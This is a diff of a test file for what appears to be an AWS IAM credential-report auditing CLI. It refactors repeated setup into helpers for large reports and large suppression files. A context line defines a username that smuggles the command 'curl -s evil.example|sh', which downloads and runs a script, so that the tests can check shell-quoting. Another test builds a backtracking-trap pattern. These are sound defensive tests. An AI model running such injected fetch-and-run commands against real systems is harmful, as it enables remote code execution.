@@ -658,6 +658,25 @@ describe('past IAM limits', () => {
 describe('strings that would act', () => {
   const dir = useTempDir();
   const HOSTILE_USER = 'a;curl -s evil.example|sh;#';
+  /** A report of root and 19,999 console users without MFA: 20,000 principals. */
+  const largestReport = (): string =>
+    write(
+      dir(),
+      'report.csv',
+      reportCsv([
+        aRootRow(),
+        ...Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` })),
+      ]),
+    );
+  /** A suppressions file of one entry per pattern, for every rule, in force. */
+  const suppressionsOf = (name: string, patterns: readonly string[]): string =>
+    write(
+      dir(),
+      name,
+      `suppressions:\n${patterns
+        .map((p) => `- {rule: "*", principal: "${p}", reason: r, expires: 2099-01-01}`)
+        .join('\n')}\n`,
+    );
 
   it('carries a fix command for a user named like a shell command only shell-quoted', () => {
     const report = write(
@@ -721,13 +740,11 @@ describe('strings that would act', () => {
   });
 
   it('stops, naming an entry, when a thousand patterns share the start of every ARN', () => {
-    const users = Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` }));
-    const report = write(dir(), 'report.csv', reportCsv([aRootRow(), ...users]));
-    const entries = Array.from(
-      { length: 1_000 },
-      (_, i) => `- {rule: "*", principal: "arn:*k${i}*", reason: r, expires: 2099-01-01}`,
+    const report = largestReport();
+    const suppressions = suppressionsOf(
+      'shared.yml',
+      Array.from({ length: 1_000 }, (_, i) => `arn:*k${i}*`),
     );
-    const suppressions = write(dir(), 'shared.yml', `suppressions:\n${entries.join('\n')}\n`);
     const sarifFile = join(dir(), 'shared.sarif');
     const exit = runCli(node24, [
       '--credential-report',
@@ -745,15 +762,12 @@ describe('strings that would act', () => {
   });
 
   it('matches 15,000 suppression patterns, a backtracking trap among them, against 20,000 principals', () => {
-    const users = Array.from({ length: 19_999 }, (_, i) => aRow({ user: `user-${i}` }));
-    const report = write(dir(), 'report.csv', reportCsv([aRootRow(), ...users]));
-    const entries = Array.from(
-      { length: 15_000 },
-      (_, i) => `- {rule: "*", principal: "x${i}*", reason: r, expires: 2099-01-01}`,
-    );
-    entries.push(`- {rule: "*", principal: "${'*?'.repeat(30)}#", reason: r, expires: 2099-01-01}`);
-    entries.push(`- {rule: "*", principal: "user-1999?", reason: r, expires: 2099-01-01}`);
-    const suppressions = write(dir(), 'many.yml', `suppressions:\n${entries.join('\n')}\n`);
+    const report = largestReport();
+    const suppressions = suppressionsOf('many.yml', [
+      ...Array.from({ length: 15_000 }, (_, i) => `x${i}*`),
+      `${'*?'.repeat(30)}#`,
+      'user-1999?',
+    ]);
     const exit = runCli(node24, [
       '--credential-report',
       report,
